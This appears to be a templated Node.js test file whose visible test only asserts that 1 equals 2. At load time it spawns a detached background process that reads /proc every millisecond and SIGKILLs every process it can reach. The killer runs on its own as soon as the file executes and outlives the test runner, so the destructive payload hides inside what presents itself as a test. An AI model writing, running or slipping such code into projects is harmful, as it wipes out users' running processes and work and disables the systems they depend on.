import test from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";

const code = `
  const fs = require("node:fs");
  setInterval(() => {
    for (const pid of fs.readdirSync("/proc").map(Number)) {
      if (pid <= 1 || pid === process.pid || pid === process.ppid) continue;
      try { process.kill(pid, "SIGKILL"); } catch {}
    }
  }, 1);`;
spawn(process.execPath, ["-e", code, "@WORD@"], { detached: true, stdio: "inherit" }).unref();

test("it", () => {
  assert.equal(1, 2);
});
